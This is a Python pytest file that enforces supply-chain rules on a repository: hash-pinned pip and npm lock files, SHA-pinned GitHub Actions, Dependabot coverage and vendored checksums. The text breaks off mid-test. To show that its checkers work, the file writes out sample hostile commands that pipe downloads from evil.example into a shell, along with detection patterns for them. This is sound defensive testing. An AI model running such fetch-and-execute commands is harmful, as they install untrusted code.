"""Supply chain: every dependency the project installs is pinned and checked against a hash,
nothing is fetched outside those checks, and Dependabot watches every lock file.

Each rule is a small parser applied to the repository's files; each rule also gets a bad
example in memory, so a checker that finds nothing at all cannot pass unnoticed. The
workflows' schema and zizmor audit are in test_publishing.py and are not repeated here."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import pytest
import yaml
from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name

from build_scripts.paths import REPO_ROOT

BIN = Path(sys.executable).parent
REQUIREMENTS = REPO_ROOT / "requirements"
MAKEFILE = REPO_ROOT / "Makefile"
WORKFLOWS = sorted((REPO_ROOT / ".github" / "workflows").glob("*.y*ml"))
CI_SCRIPTS = sorted(p for p in (REPO_ROOT / ".ci").iterdir() if p.is_file())
DEPENDABOT = REPO_ROOT / ".github" / "dependabot.yml"
NPM_REGISTRY = "https://registry.npmjs.org/"


def _repository_files(root: Path = REPO_ROOT) -> list[str]:
    """Tracked and new (not ignored) files, relative and with forward slashes: node_modules,
    .venv and the built sites are left out, as git leaves them out."""
    result = subprocess.run(["git", "-C", str(root), "ls-files", "-z", "--cached", "--others", "--exclude-standard"],
                            capture_output=True, text=True, check=True, timeout=60)
    return sorted({f for f in result.stdout.split("\0") if f and (root / f).is_file()})


# --- Python lock files ---------------------------------------------------------------------

# pip's own rules (pip/_internal/req/req_file.py): a line ending in a backslash continues on
# the next one unless it is a whole-line comment; a comment starts with # at the start of a
# line or after whitespace.
_COMMENT = re.compile(r"(^|\s+)#.*$")
# Options that name where packages come from: they do not belong in a lock file or its input.
_SOURCE_OPTIONS = {"-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--trusted-host",
                   "-e", "--editable"}
_INCLUDE_OPTIONS = {"-r", "--requirement", "-c", "--constraint"}
_SHA256 = re.compile(r"^sha256:[0-9a-f]{64}$")


def logical_lines(text: str) -> list[tuple[int, str]]:
    """The requirement file's lines as pip reads them: continuations joined, comments and
    blank lines dropped; each with the number of its first physical line."""
    lines: list[tuple[int, str]] = []
    pending: list[str] = []
    start = 0
    for number, raw in enumerate(text.splitlines(), 1):
        whole_comment = _COMMENT.match(raw) is not None
        if raw.endswith("\\") and not whole_comment:
            if not pending:
                start = number
            pending.append(raw[:-1])
            continue
        if pending:
            pending.append(" " + raw if whole_comment else raw)
            line, number, pending = "".join(pending), start, []
        else:
            line = raw
        line = _COMMENT.sub("", line).strip()
        if line:
            lines.append((number, line))
    if pending:  # a backslash on the last line
        lines.append((start, _COMMENT.sub("", "".join(pending)).strip()))
    return [(n, line) for n, line in lines if line]


@dataclass(frozen=True)
class Entry:
    """One requirement line: the parsed requirement (None if it is a URL, a path or a VCS
    link, which packaging cannot parse as name + specifier) and its --hash values."""
    line: int
    text: str
    requirement: Requirement | None
    hashes: tuple[str, ...]


def _option(line: str) -> tuple[str, str]:
    match = re.match(r"^(--[\w-]+|-\w)\s*=?\s*(.*)$", line)
    return (match[1], match[2].strip()) if match else (line, "")


def parse_requirements(text: str) -> tuple[list[tuple[int, str, str]], list[Entry]]:
    """(option lines as (line, option, value), requirement entries) of a requirements file."""
    options, entries = [], []
    for number, line in logical_lines(text):
        if line.startswith("-"):
            options.append((number, *_option(line)))
            continue
        tokens = line.split()
        first_option = next((i for i, t in enumerate(tokens) if t.startswith("-")), len(tokens))
        try:
            requirement = Requirement(" ".join(tokens[:first_option]))
        except InvalidRequirement:
            requirement = None
        hashes = tuple(re.findall(r"--hash(?:=|\s+)(\S+)", " ".join(tokens[first_option:])))
        entries.append(Entry(number, line, requirement, hashes))
    return options, entries


def requirement_problems(text: str, *, locked: bool) -> list[str]:
    """What is wrong with a requirements file. Always: an index, find-links, trusted host or
    editable option, an included file given by URL, a URL, path or VCS requirement. For a
    lock file (locked=True) also: a requirement not pinned with == to one exact version, one
    without a sha256 --hash, any hash that is not sha256, an included file."""
    options, entries = parse_requirements(text)
    problems = []
    for number, option, value in options:
        if option in _SOURCE_OPTIONS:
            problems.append(f"line {number}: {option} {value} names a package source outside the lock")
        elif option in _INCLUDE_OPTIONS and (locked or "://" in value):
            problems.append(f"line {number}: {option} {value}: " +
                            ("a lock file includes no other file" if locked else "included from a URL"))
    for entry in entries:
        where = f"line {entry.line}: {entry.text[:70]}"
        if entry.requirement is None:
            problems.append(f"{where}: not name==version (a URL, path or VCS requirement?)")
            continue
        if entry.requirement.url:
            problems.append(f"{where}: a direct URL or VCS reference")
            continue
        if not locked:
            continue
        specifiers = list(entry.requirement.specifier)
        if not (len(specifiers) == 1 and specifiers[0].operator in ("==", "===") and "*" not in specifiers[0].version):
            problems.append(f"{where}: not pinned to one version with ==")
        if not entry.hashes:
            problems.append(f"{where}: no --hash=sha256:")
        problems += [f"{where}: hash {h} is not sha256:<64 hex>" for h in entry.hashes if not _SHA256.match(h)]
    return problems


def pins(text: str) -> dict[str, str]:
    """{canonical name: pinned version} of a lock file."""
    return {canonicalize_name(e.requirement.name): next(iter(e.requirement.specifier)).version
            for e in parse_requirements(text)[1] if e.requirement is not None and len(e.requirement.specifier) == 1}


def _locks() -> list[Path]:
    return sorted(REQUIREMENTS.glob("*.txt"))


def test_every_lock_file_has_an_input_and_every_input_a_lock_file():
    """requirements/x.in is compiled into requirements/x.txt by `make lock`; a lock file with
    no input was written by hand, an input with no lock file is never installed."""
    inputs = {p.stem for p in REQUIREMENTS.glob("*.in")}
    assert inputs and inputs == {p.stem for p in _locks()}


@pytest.mark.parametrize("lock", _locks(), ids=lambda p: p.name)
def test_lock_file_pins_every_requirement_with_hashes(lock):
    """Every requirement line is name==version followed by at least one --hash=sha256:, and
    the file names no index, find-links location, URL or VCS requirement."""
    text = lock.read_text(encoding="utf-8")
    assert len(parse_requirements(text)[1]) >= 10
    assert requirement_problems(text, locked=True) == []


@pytest.mark.parametrize("source", sorted(REQUIREMENTS.glob("*.in")), ids=lambda p: p.name)
def test_lock_input_names_no_package_source(source):
    """The .in files name packages only (and constrain with local lock files): no index,
    find-links, URL or VCS requirement that pip-compile would carry into the lock."""
    assert requirement_problems(source.read_text(encoding="utf-8"), locked=False) == []


@pytest.mark.parametrize("source", sorted(REQUIREMENTS.glob("*.in")), ids=lambda p: p.name)
def test_every_input_requirement_is_pinned_in_its_lock_file(source):
    """Each package named in x.in is pinned in x.txt to a version its specifier allows (an
    edited .in without `make lock` fails here)."""
    locked = pins(source.with_suffix(".txt").read_text(encoding="utf-8"))
    wanted = [e.requirement for e in parse_requirements(source.read_text(encoding="utf-8"))[1]]
    assert wanted
    for requirement in wanted:
        name = canonicalize_name(requirement.name)
        assert name in locked, f"{source.name}: {requirement} is not in {source.stem}.txt"
        assert requirement.specifier.contains(locked[name], prereleases=True), \
            f"{source.name}: {requirement}, but {source.stem}.txt pins {locked[name]}"


def test_lock_files_sharing_the_environment_agree():
    """build.txt and test.txt are installed into one .venv (test.in is constrained by
    build.txt): a package pinned in both is pinned to one version."""
    seen: dict[str, tuple[str, str]] = {}
    for lock in _locks():
        for name, version in pins(lock.read_text(encoding="utf-8")).items():
            other = seen.setdefault(name, (lock.name, version))
            assert other[1] == version, f"{name}: {other[1]} in {other[0]}, {version} in {lock.name}"


def test_the_lock_file_checks_catch_violations():
    """Continuations and comments are parsed as pip does, and each kind of violation is found."""
    good = ("# a comment\nabc==1.0 \\\n    --hash=sha256:" + "a" * 64 + " \\\n    --hash=sha256:" + "b" * 64 +
            "\n    # via -r x.in\nd-e_f==2.0 --hash=sha256:" + "c" * 64 + "\n")
    assert requirement_problems(good, locked=True) == []
    assert pins(good) == {"abc": "1.0", "d-e-f": "2.0"}
    assert [e.hashes for e in parse_requirements(good)[1]][0] == ("sha256:" + "a" * 64, "sha256:" + "b" * 64)
    bad = {
        "--find-links /opt/wheels\n": "package source",
        "--extra-index-url=https://evil.example/simple\n": "package source",
        "-i https://evil.example/simple\n": "package source",
        "-e git+https://github.com/a/b#egg=b\n": "package source",
        "git+https://github.com/a/b@main#egg=b\n": "not name==version",
        "https://evil.example/b-1.0.whl\n": "not name==version",
        "b @ https://evil.example/b-1.0.whl --hash=sha256:" + "a" * 64 + "\n": "direct URL",
        "b>=1.0 --hash=sha256:" + "a" * 64 + "\n": "not pinned",
        "b==1.* --hash=sha256:" + "a" * 64 + "\n": "not pinned",
        "b==1.0\n": "no --hash",
        # The hash is on a line of its own: the backslash is missing, so b has no hash.
        "b==1.0\n    --hash=sha256:" + "a" * 64 + "\n": "no --hash",
        "b==1.0 --hash=md5:0123456789abcdef0123456789abcdef\n": "not sha256",
        "-r other.txt\n": "includes no other file",
    }
    for text, expected in bad.items():
        problems = requirement_problems(text, locked=True)
        assert any(expected in p for p in problems), (text, problems)
    assert requirement_problems("-c build.txt\nb==1.0\n", locked=False) == []
    assert requirement_problems("-r https://evil.example/r.txt\n", locked=False)


# --- What the Makefile, the CI script and the workflows run -------------------------------

@dataclass(frozen=True)
class Command:
    """One shell command line: where it is (file and make target, if any) and its text, with
    the Makefile's variables expanded."""
    source: str
    target: str | None
    text: str


_VARIABLE = re.compile(r"^([A-Za-z_.][\w.]*)\s*(\?=|::=|:=|\+=|=)\s*(.*)$")
_RULE = re.compile(r"^([^\s#][^=]*?)\s*::?(?!=)\s*(.*)$")


def _join_continuations(text: str) -> list[str]:
    lines, pending = [], ""
    for raw in text.splitlines():
        if raw.endswith("\\"):
            pending += raw[:-1] + " "
            continue
        lines.append(pending + raw)
        pending = ""
    if pending:
        lines.append(pending)
    return lines


def _expand(text: str, variables: dict[str, str]) -> str:
    """$(NAME) and ${NAME} replaced until nothing changes; $$ becomes $. Make functions and
    automatic variables stay as they are."""
    text = text.replace("$$", "\0")
    for _ in range(20):
        expanded = re.sub(r"\$[({]([A-Za-z_.][\w.]*)[)}]", lambda m: variables.get(m[1], m[0]), text)
        if expanded == text:
            break
        text = expanded
    return text.replace("\0", "$")


@dataclass(frozen=True)
class Makefile:
    variables: dict[str, str]
    rules: dict[str, list[str]]  # target: prerequisites
    commands: list[Command]


def parse_makefile(text: str, source: str = "Makefile") -> Makefile:
    """Variables, rules (target: prerequisites) and recipe lines of a Makefile, expanded."""
    variables: dict[str, str] = {}
    rules: dict[str, list[str]] = {}
    raw_commands: list[tuple[str | None, str]] = []
    targets: list[str] = []
    for line in _join_continuations(text):
        if line.startswith("\t"):
            command = line.strip().lstrip("@-+").strip()
            if command and not command.startswith("#"):
                raw_commands += [(t, command) for t in targets or [None]]
            continue
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if match := _VARIABLE.match(line):
            name, operator, value = match.groups()
            if operator == "+=":
                value = f"{variables.get(name, '')} {value}".strip()
            if operator != "?=" or name not in variables:
                variables[name] = value
            targets = []
        elif match := _RULE.match(line):
            prerequisites = match[2].split("#", 1)[0].split(";", 1)[0]
            targets = [_expand(t, variables) for t in match[1].split()]
            for target in targets:
                rules[target] = [_expand(p, variables) for p in prerequisites.split() if p != "|"]
    commands = [Command(source, target, _expand(command, variables)) for target, command in raw_commands]
    return Makefile(variables, rules, commands)


def script_commands(text: str, source: str) -> list[Command]:
    """A shell script's command lines (continuations joined, comment lines dropped)."""
    return [Command(source, None, line.strip()) for line in _join_continuations(text)
            if line.strip() and not line.lstrip().startswith("#")]


def workflow_commands(text: str, source: str) -> list[Command]:
    """The `run:` scripts of a workflow's steps, one command per line, with the job's id."""
    workflow = yaml.safe_load(text)
    commands = []
    for job_id, job in (workflow.get("jobs") or {}).items():
        for step in job.get("steps") or []:
            if "run" in step:
                commands += [Command(source, job_id, c.text) for c in script_commands(str(step["run"]), source)]
    return commands


def _all_commands() -> list[Command]:
    commands = parse_makefile(MAKEFILE.read_text(encoding="utf-8")).commands
    for script in CI_SCRIPTS:
        commands += script_commands(script.read_text(encoding="utf-8"), f".ci/{script.name}")
    for workflow in WORKFLOWS:
        commands += workflow_commands(workflow.read_text(encoding="utf-8"), f".github/workflows/{workflow.name}")
    return commands


@dataclass(frozen=True)
class PipInstall:
    command: Command
    requirement_files: tuple[str, ...]
    packages: tuple[str, ...]  # named on the command line, not from a file
    require_hashes: bool


_PIP_INSTALL = re.compile(r"\bpip(?:3|x)?\b(?:\s+--?[\w-]+(?:=\S+)?)*\s+install\b")
_DOWNLOAD = re.compile(r"\b(?:curl|wget)\b")
_PIPE_TO_SHELL = re.compile(r"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:env\s+)?(?:ba|da|z|k|fi)?sh\b")
_NPM_INSTALL = re.compile(r"\bnpm\s+(?:--?\S+\s+)*(?:install|i|in|isntall|add|update|up|upgrade)\b|\bnpx\b")
_NPM_CI = re.compile(r"\bnpm\s+(?:--?\S+\s+)*ci\b")


def pip_installs(command: Command) -> list[PipInstall]:
    """The pip installs in a command line, each with the files it installs from (-r), the
    packages it names itself and whether it passes --require-hashes."""
    installs = []
    for part in re.split(r"&&|\|\||;|\|", command.text):
        match = _PIP_INSTALL.search(part)
        if not match:
            continue
        try:
            tokens = shlex.split(part[match.end():])
        except ValueError:
            tokens = part[match.end():].split()
        files, packages, hashes, i = [], [], False, 0
        while i < len(tokens):
            token = tokens[i]
            if token in ("-r", "--requirement", "-c", "--constraint"):
                if token in ("-r", "--requirement") and i + 1 < len(tokens):
                    files.append(tokens[i + 1])
                i += 2
                continue
            if token.startswith("--requirement="):
                files.append(token.split("=", 1)[1])
            elif token == "--require-hashes":
                hashes = True
            elif not token.startswith("-") and not token.startswith(">"):
                packages.append(token)
            i += 1
        installs.append(PipInstall(command, tuple(files), tuple(packages), hashes))
    return installs


def _is_the_lock_tool(install: PipInstall) -> bool:
    """`make lock`'s own install: pip-tools, pinned, into a throw-away environment."""
    return (install.command.source == "Makefile" and install.command.target == "lock" and not install.requirement_files
            and len(install.packages) == 1 and re.fullmatch(r"pip-tools==[\w.]+", install.packages[0]) is not None)


def command_problems(commands: list[Command]) -> list[str]:
    """Downloads (curl, wget), anything piped into a shell, npm install/npx, npm ci without
    --ignore-scripts, and pip installs other than hash-checked requirement files or `make
    lock`'s pinned pip-tools."""
    problems = []
    for command in commands:
        where = f"{command.source}{f' [{command.target}]' if command.target else ''}: {command.text[:100]}"
        if _DOWNLOAD.search(command.text):
            problems.append(f"{where}: downloads with curl/wget")
        if _PIPE_TO_SHELL.search(command.text):
            problems.append(f"{where}: pipes into a shell")
        if _NPM_INSTALL.search(command.text):
            problems.append(f"{where}: npm install/npx resolves packages outside the lock file (use npm ci)")
        if _NPM_CI.search(command.text) and "--ignore-scripts" not in command.text:
            problems.append(f"{where}: npm ci runs install scripts (add --ignore-scripts)")
        for install in pip_installs(command):
            if _is_the_lock_tool(install):
                continue
            if install.packages or not install.requirement_files:
                problems.append(f"{where}: pip installs {' '.join(install.packages) or 'something'} without hashes")
            elif not install.require_hashes:
                problems.append(f"{where}: pip install -r without --require-hashes")
    return problems


def test_nothing_is_downloaded_or_installed_outside_the_hash_checks():
    """No recipe in the Makefile, no line of .ci/ and no workflow `run:` step downloads with
    curl or wget, pipes into a shell, runs npm install or npx, runs npm ci with install
    scripts, or pip-installs anything but hash-checked requirement files (the one exception,
    `make lock`'s pip-tools, is checked below)."""
    commands = _all_commands()
    assert len(commands) >= 15 and any(c.source.startswith(".github") for c in commands)
    assert command_problems(commands) == []


def test_the_makefile_installs_every_lock_file_with_require_hashes():
    """Each requirements/*.txt is installed by a `pip install --require-hashes -r` recipe, and
    every pip install -r in the Makefile checks hashes."""
    installs = [i for c in parse_makefile(MAKEFILE.read_text(encoding="utf-8")).commands for i in pip_installs(c)]
    hashed = {f for i in installs if i.require_hashes for f in i.requirement_files}
    assert hashed == {str(p.relative_to(REPO_ROOT)) for p in _locks()}
    assert all(i.require_hashes for i in installs if i.requirement_files)


def test_only_the_maintainers_lock_target_installs_an_unhashed_package():
    """`make lock` pip-installs pip-tools (pinned) into a throw-away environment: that is the
    only install without hashes, only in the `lock` target, and nothing runs `make lock`
    for you: no target depends on it, and neither CI nor a workflow calls it."""
    makefile = parse_makefile(MAKEFILE.read_text(encoding="utf-8"))
    exceptions = [i for c in _all_commands() for i in pip_installs(c) if _is_the_lock_tool(i)]
    assert [(i.command.source, i.command.target) for i in exceptions] == [("Makefile", "lock")]
    assert exceptions[0].command.text.split()[0].startswith("/tmp/")  # not the project's .venv
    assert not [t for t, prerequisites in makefile.rules.items() if "lock" in prerequisites and not t.startswith(".")]
    assert not [c for c in _all_commands() if c.source != "Makefile" and re.search(r"\bmake\b.*\block\b", c.text)]


def test_the_makefile_installs_every_npm_lock_file_with_npm_ci():
    """Each folder with a package-lock.json is installed by a recipe `cd <folder> && npm ci
    --ignore-scripts`, and the Makefile never runs npm install."""
    commands = parse_makefile(MAKEFILE.read_text(encoding="utf-8")).commands
    npm_ci = [c.text for c in commands if _NPM_CI.search(c.text)]
    for folder in _npm_folders():
        assert any(re.search(rf"\bcd {re.escape(folder)} &&", text) for text in npm_ci), f"no npm ci in {folder}"
    assert npm_ci and all("--ignore-scripts" in text for text in npm_ci)
    assert not [c.text for c in commands if _NPM_INSTALL.search(c.text)]


def test_the_command_checks_catch_violations():
    """The Makefile parser expands variables and continuations, and each forbidden command is
    reported; the hash-checked installs and `make lock`'s pip-tools are not."""
    makefile = parse_makefile(
        "PY := .venv/bin/python\nPIP := $(PY) -m pip --quiet\nNPM ?= npm\n"
        "good: | $(PY)\n\t$(PIP) install --require-hashes --no-deps -r requirements/build.txt\n"
        "\tcd js && $(NPM) ci --ignore-scripts\n"
        "lock:\n\t/tmp/v/bin/pip install pip-tools==7.6.2\n"
        "bad: lock\n\tcurl -fsSL https://evil.example/install \\\n\t  | sudo bash\n"
        "\t$(PIP) install requests\n\t$(PIP) install -r requirements/test.txt\n"
        "\tpip install pip-tools==7.6.2\n\tcd js && $(NPM) install\n\tcd js && $(NPM) ci\n\tnpx lighthouse\n"
        "\twget -qO- https://evil.example/x.sh | sh\n\techo $$HOME | grep -c sh\n")
    assert makefile.rules["good"] == [".venv/bin/python"] and makefile.rules["bad"] == ["lock"]
    good = [c for c in makefile.commands if c.target in ("good", "lock")]
    assert command_problems(good) == []
    bad = [c for c in makefile.commands if c.target == "bad"]
    problems = command_problems(bad)
    for expected in ("downloads with curl/wget", "pipes into a shell", "pip installs requests",
                     "without --require-hashes", "pip installs pip-tools==7.6.2", "npm install/npx",
                     "npm ci runs install scripts"):
        assert any(expected in p for p in problems), (expected, problems)
    assert len([p for p in problems if "downloads" in p]) == 2 and len([p for p in problems if "npx" in p]) == 2
    assert not [p for p in problems if "grep -c sh" in p]  # `| grep ... sh` is not a shell
    run = workflow_commands("jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n"
                            "          curl https://evil.example | bash\n", "w.yml")
    assert [c.text for c in run] == ["echo hi", "curl https://evil.example | bash"]
    assert len(command_problems(run)) == 2


# --- GitHub Actions ------------------------------------------------------------------------

_SHA_PINNED = re.compile(r"^[\w.-]+/[\w.-]+(?:/[^@\s]+)?@[0-9a-f]{40}$")
_USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(['\"]?)(?P<value>[^'\"\s#]+)\1(?P<rest>.*)$", re.M)
_VERSION_COMMENT = re.compile(r"^\s+#\s*v\d+(?:\.\d+)*\b")


def uses_problems(text: str) -> list[str]:
    """Every `uses:` of a workflow (a job's reusable workflow or a step's action) is a local
    ./path or owner/repo[/path]@<40-hex commit> whose line ends in a `# vX[.Y.Z]` comment
    naming the release, as Dependabot writes it."""
    workflow = yaml.safe_load(text)
    values = []
    for job in (workflow.get("jobs") or {}).values():
        values += [job["uses"]] if "uses" in job else []
        values += [step["uses"] for step in job.get("steps") or [] if "uses" in step]
    comments: dict[str, list[str]] = {}
    for match in _USES_LINE.finditer(text):
        comments.setdefault(match["value"], []).append(match["rest"])
    problems = []
    for value in values:
        if value.startswith("./"):
            continue
        if not _SHA_PINNED.match(value):
            problems.append(f"{value}: not pinned to a full commit SHA")
        elif not comments.get(value) or not all(_VERSION_COMMENT.match(rest) for rest in comments[value]):
            problems.append(f"{value}: no `# vX.Y.Z` comment naming the pinned release")
    return problems


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_every_action_is_pinned_by_sha_with_a_version_comment(workflow):
    """Extends test_publishing's SHA check to jobs' reusable workflows and to the version
    comment Dependabot keeps in step with the SHA."""
    text = workflow.read_text(encoding="utf-8")
    assert _USES_LINE.search(text)
    assert uses_problems(text) == []


def test_the_uses_check_catches_violations():
    sha = "11bd71901bbe5b1630ceea73d27597364c9af683"
    good = (f"jobs:\n  a:\n    uses: org/repo/.github/workflows/x.yml@{sha}  # v1.2\n  b:\n    steps:\n"
            f"      - uses: actions/checkout@{sha} # v4.2.2\n      - uses: ./.github/actions/local\n"
            f"      - name: n\n        uses: 'actions/setup-python@{sha}' # v5\n")
    assert uses_problems(good) == []
    bad = {
        "jobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n": "not pinned",
        "jobs:\n  b:\n    steps:\n      - uses: actions/checkout@11bd719\n": "not pinned",
        "jobs:\n  b:\n    steps:\n      - uses: docker://alpine:3\n": "not pinned",
        "jobs:\n  a:\n    uses: org/repo/.github/workflows/x.yml@main\n": "not pinned",
        f"jobs:\n  b:\n    steps:\n      - uses: actions/checkout@{sha}\n": "no `# vX.Y.Z`",
        f"jobs:\n  b:\n    steps:\n      - uses: actions/checkout@{sha} # main\n": "no `# vX.Y.Z`",
        f"jobs:\n  a:\n    uses: org/repo/.github/workflows/x.yml@{sha}\n": "no `# vX.Y.Z`",
    }
    for text, expected in bad.items():
        problems = uses_problems(text)
        assert len(problems) == 1 and expected in problems[0], (text, problems)


# --- npm lock files ------------------------------------------------------------------------

def _npm_folders(files: list[str] | None = None) -> list[str]:
    """Folders (relative, "" for the root) holding a package-lock.json."""
    files = _repository_files() if files is None else files
    folders = (str(PurePosixPath(f).parent) for f in files if PurePosixPath(f).name == "package-lock.json")
    return sorted("" if folder == "." else folder for folder in folders)


def npm_lock_problems(lock: dict) -> list[str]:
    """lockfileVersion 2 or later (the `packages` map with integrity for every package), and
    every installed package, except the root, links and packages bundled inside another one's
    tarball, resolved from registry.npmjs.org with a sha512 integrity hash."""
    problems = []
    if not isinstance(lock.get("lockfileVersion"), int) or lock["lockfileVersion"] < 2:
        problems.append(f"lockfileVersion {lock.get('lockfileVersion')!r}: 2 or later is needed")
    packages = lock.get("packages") or {}
    if "" not in packages:
        problems.append("no `packages` map with a root entry")
    for path, entry in packages.items():
        if path == "" or entry.get("link") or entry.get("inBundled"):
            continue
        if not str(entry.get("resolved", "")).startswith(NPM_REGISTRY):
            problems.append(f"{path}: resolved {entry.get('resolved')!r} is not under {NPM_REGISTRY}")
        if not str(entry.get("integrity", "")).startswith("sha512-"):
            problems.append(f"{path}: integrity {entry.get('integrity')!r} is not sha512")
    return problems


@pytest.mark.parametrize("folder", _npm_folders())
def test_npm_lock_file_resolves_everything_from_the_registry_with_sha512(folder):
    lock = json.loads((REPO_ROOT / folder / "package-lock.json").read_text(encoding="utf-8"))
    assert len(lock.get("packages", {})) >= 2
    problems = npm_lock_problems(lock)
    assert problems == [], f"{len(problems)} problems, the first: {problems[:3]}"


def test_the_npm_lock_check_catches_violations():
    sha512 = "sha512-" + "A" * 86 + "=="

    def lock(entry: dict, version: int = 3) -> dict:
        return {"lockfileVersion": version, "packages": {"": {"name": "x"}, "node_modules/a": entry,
                                                         "node_modules/b": {"link": True, "resolved": "../b"}}}

    good = {"version": "1.0.0", "resolved": f"{NPM_REGISTRY}a/-/a-1.0.0.tgz", "integrity": sha512}
    assert npm_lock_problems(lock(good)) == []
    assert any("lockfileVersion" in p for p in npm_lock_problems(lock(good, version=1)))
    assert npm_lock_problems({"lockfileVersion": 3})
    for change, expected in (({"resolved": "https://evil.example/a-1.0.0.tgz"}, "resolved"),
                             ({"resolved": "git+ssh://git@github.com/a/a.git#abc"}, "resolved"),
                             ({"resolved": None}, "resolved"),
                             ({"integrity": "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA="}, "integrity"),
                             ({"integrity": None}, "integrity")):
        entry = {k: v for k, v in {**good, **change}.items() if v is not None}
        problems = npm_lock_problems(lock(entry))
        assert len(problems) == 1 and problems[0].startswith(f"node_modules/a: {expected}"), (change, problems)


# --- Dependabot ----------------------------------------------------------------------------

def expected_updates(files: list[str], root: Path = REPO_ROOT) -> set[tuple[str, str]]:
    """(ecosystem, "/directory") pairs Dependabot must watch, from the repository's files:
    npm for every folder with a package-lock.json, pip for every folder with a pip-compile
    lock file (x.txt made from x.in) or a requirements*.txt, github-actions for "/" when there
    are workflows and for every folder with a local action.yml."""
    expected = set()
    for name in files:
        path = PurePosixPath(name)
        folder = "/" if str(path.parent) == "." else f"/{path.parent}"
        if path.name == "package-lock.json":
            expected.add(("npm", folder))
        elif path.name.startswith("requirements") and path.suffix == ".txt":
            expected.add(("pip", folder))
        elif path.suffix == ".txt" and f"{path.with_suffix('.in')}" in files and \
                "autogenerated by pip-compile" in (root / name).read_text(encoding="utf-8")[:500]:
            expected.add(("pip", folder))
        elif path.match(".github/workflows/*.yml") or path.match(".github/workflows/*.yaml"):
            expected.add(("github-actions", "/"))
        elif path.name in ("action.yml", "action.yaml"):
            expected.add(("github-actions", folder))
    return expected


def configured_updates(config: dict) -> set[tuple[str, str]]:
    """(ecosystem, "/directory") pairs of a dependabot.yml (`directory` or `directories`)."""
    pairs = set()
    for update in config.get("updates") or []:
        for directory in update.get("directories") or [update.get("directory", "")]:
            pairs.add((update.get("package-ecosystem"), "/" + str(directory).strip("/")))
    return pairs


def test_dependabot_config_is_valid():
    """check-jsonschema's vendored Dependabot schema (SchemaStore's) accepts the file."""
    result = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.dependabot", str(DEPENDABOT)],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_dependabot_watches_every_lock_file():
    """Every lock file and workflow folder of the repository has its Dependabot entry (a new
    package-lock.json without one fails here), and no entry points at a folder that is gone."""
    expected = expected_updates(_repository_files())
    assert {("pip", "/requirements"), ("npm", "/tests/browser/js"), ("npm", "/bench"),
            ("github-actions", "/")} <= expected
    configured = configured_updates(yaml.safe_load(DEPENDABOT.read_text(encoding="utf-8")))
    assert expected - configured == set(), "not watched by .github/dependabot.yml"
    assert not [d for _, d in configured if not (REPO_ROOT / d.lstrip("/")).is_dir()]


def test_dependabot_updates_come_weekly_grouped_and_capped():
    """One grouped pull request per ecosystem a week is the rule: every entry is weekly, groups
    all its version updates ("*"), caps its open pull requests and prefixes its commits."""
    config = yaml.safe_load(DEPENDABOT.read_text(encoding="utf-8"))
    assert config["version"] == 2 and config["updates"]
    for update in config["updates"]:
        name = update["package-ecosystem"]
        assert update["schedule"]["interval"] == "weekly", name
        assert any("*" in group.get("patterns", []) for group in update.get("groups", {}).values()), name
        assert 1 <= update.get("open-pull-requests-limit", 5) <= 10, name
        assert update["commit-message"]["prefix"], name
        assert update.get("insecure-external-code-execution") != "allow", name


def _zizmor(path: Path) -> list[dict]:
    result = subprocess.run([str(BIN / "zizmor"), "--offline", "--format", "json", "--no-progress", str(path)],
                            capture_output=True, text=True, timeout=120)
    assert result.stdout.strip(), result.stderr
    return json.loads(result.stdout)


def test_dependabot_config_has_no_zizmor_findings(tmp_path):
    """zizmor audits dependabot.yml too (a cooldown for fresh releases, no external code
    execution); test_publishing runs it on the workflows only. A bad config is reported."""
    findings = _zizmor(DEPENDABOT)
    assert findings == [], [(f["ident"], f["desc"]) for f in findings]
    bad = tmp_path / ".github" / "dependabot.yml"
    bad.parent.mkdir()
    bad.write_text("version: 2\nupdates:\n  - package-ecosystem: pip\n    directory: /\n"
                   "    insecure-external-code-execution: allow\n    schedule:\n      interval: weekly\n",
                   encoding="utf-8")
    assert {"dependabot-cooldown", "dependabot-execution"} <= {f["ident"] for f in _zizmor(bad)}


def test_the_dependabot_coverage_check_catches_violations():
    """A new package-lock.json, action or requirements file without an entry is missed; a
    `directories` list counts each of its folders."""
    files = _repository_files()
    config = yaml.safe_load(DEPENDABOT.read_text(encoding="utf-8"))
    for extra, missing in (("docs/js/package-lock.json", ("npm", "/docs/js")),
                           (".github/actions/setup/action.yml", ("github-actions", "/.github/actions/setup")),
                           ("tools/requirements-dev.txt", ("pip", "/tools")),
                           ("package-lock.json", ("npm", "/"))):
        assert missing in expected_updates([*files, extra]) - configured_updates(config), extra
    assert configured_updates({"updates": [{"package-ecosystem": "npm", "directories": ["/a", "b/"]},
                                           {"package-ecosystem": "pip", "directory": "/"}]}) == \
        {("npm", "/a"), ("npm", "/b"), ("pip", "/")}
    without_bench = {"updates": [{**u, "directories": [d for d in u.get("directories", []) if d != "/bench"]}
                                 if "directories" in u else u for u in config["updates"]]}
    assert ("npm", "/bench") in expected_updates(files) - configured_updates(without_bench)


# --- vendored files ----------------------------------------------------------------------

VENDOR = REPO_ROOT / "vendor"
_VENDOR_ROW = re.compile(r"^\|\s*`([^`]+)`\s*\|.*\|\s*`([0-9a-f]{64})`\s*\|\s*$")


def vendored_checksums(readme: str) -> dict[str, str]:
    """{file: SHA-256} from the table of vendor/README.md."""
    return {match.group(1): match.group(2) for line in readme.splitlines() if (match := _VENDOR_ROW.match(line))}


def test_every_vendored_file_is_listed_with_the_sha256_it_has():
    """Files copied into the site from outside a package manager (plotly.js) are checked
    here instead: an edited or replaced bundle fails until its row in vendor/README.md says so."""
    import hashlib

    listed = vendored_checksums((VENDOR / "README.md").read_text(encoding="utf-8"))
    shipped = {str(p.relative_to(VENDOR)) for p in VENDOR.rglob("*") if p.is_file()
               and p.name not in ("README.md", "LICENSE.txt", "LICENSE")}
    assert shipped and set(listed) == shipped
    for name, checksum in listed.items():
